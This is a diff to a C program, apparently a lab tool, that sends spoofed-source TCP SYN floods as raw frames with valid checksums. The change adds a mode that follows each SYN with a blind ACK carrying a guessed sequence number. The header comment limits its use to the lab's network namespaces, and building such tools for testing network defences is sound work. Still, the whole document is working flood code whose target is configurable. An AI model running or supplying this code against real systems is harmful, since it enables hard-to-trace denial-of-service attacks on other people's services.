@@ -2,8 +2,10 @@
 /* nsn_flood - the lab's SYN flood: COUNT TCP SYNs with spoofed sources
  * (SRC_NET/16, a range the lab's nodes and pods never use, every source
  * port), valid checksums, sent as frames on IFACE (AF_PACKET) to DST_MAC.
+ * With synack, each SYN is followed by a blind ACK of its 5-tuple (what a
+ * spoofer who cannot see the SYN-ACK sends): 2 x COUNT frames.
  *
- *   nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT
+ *   nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT [synack]
  *
  * Prints "sent N in S s". Only ever used inside the lab's namespaces. */
 #define _GNU_SOURCE
@@ -51,16 +53,17 @@ int main(int argc, char **argv)
 	unsigned int mac[6];
 	struct in_addr net, dst;
 	unsigned long count, sent = 0;
+	int synack = argc == 8 && !strcmp(argv[7], "synack");
 	struct timespec t0, t1;
 	int fd;
 
-	if (argc != 7 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3],
+	if ((argc != 7 && !synack) || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3],
 				&mac[4], &mac[5]) != 6 ||
 	    inet_pton(AF_INET, argv[3], &net) != 1 || inet_pton(AF_INET, argv[4], &dst) != 1) {
-		fprintf(stderr, "usage: nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT\n");
+		fprintf(stderr, "usage: nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT [synack]\n");
 		return 2;
 	}
-	count = strtoul(argv[6], NULL, 10);
+	count = strtoul(argv[6], NULL, 10) * (synack ? 2 : 1);
 	to.sll_ifindex = (int)if_nametoindex(argv[1]);
 	fd = socket(AF_PACKET, SOCK_RAW, 0);
 	if (fd < 0 || !to.sll_ifindex) {
@@ -78,7 +81,8 @@ int main(int argc, char **argv)
 			uint8_t *f = frames[i];
 			struct iphdr *ip = (void *)(f + 14);
 			struct tcphdr *th = (void *)(f + 34);
-			unsigned long k = sent + i;
+			unsigned long j = sent + i, k = synack ? j / 2 : j;
+			int ack = synack && (j & 1);
 			struct { uint32_t s, d; uint8_t z, p; uint16_t l; } ph;
 
 			memset(f, 0, FRAME_LEN);
@@ -90,7 +94,7 @@ int main(int argc, char **argv)
 			ip->version = 4;
 			ip->ihl = 5;
 			ip->tot_len = htons(40);
-			ip->id = htons((uint16_t)k);
+			ip->id = htons((uint16_t)j);
 			ip->ttl = 60;
 			ip->protocol = IPPROTO_TCP;
 			ip->saddr = htonl(ntohl(net.s_addr) | (uint32_t)(k & 0xffff));
@@ -98,9 +102,12 @@ int main(int argc, char **argv)
 			ip->check = fold(sum16(ip, 20));
 			th->source = htons((uint16_t)(1024 + (k >> 16) % 60000));
 			th->dest = htons((uint16_t)atoi(argv[5]));
-			th->seq = htonl((uint32_t)(k * 2654435761u));
+			th->seq = htonl((uint32_t)(k * 2654435761u) + (uint32_t)ack);
 			th->doff = 5;
-			th->syn = 1;
+			th->syn = !ack;
+			th->ack = ack;
+			if (ack)	/* blind: the SYN-ACK's sequence number is a guess */
+				th->ack_seq = htonl((uint32_t)(k * 40503u));
 			th->window = htons(64240);
 			ph = (typeof(ph)){ ip->saddr, ip->daddr, 0, IPPROTO_TCP, htons(20) };
 			th->check = fold(sum16(&ph, sizeof(ph)) + sum16(th, 20));
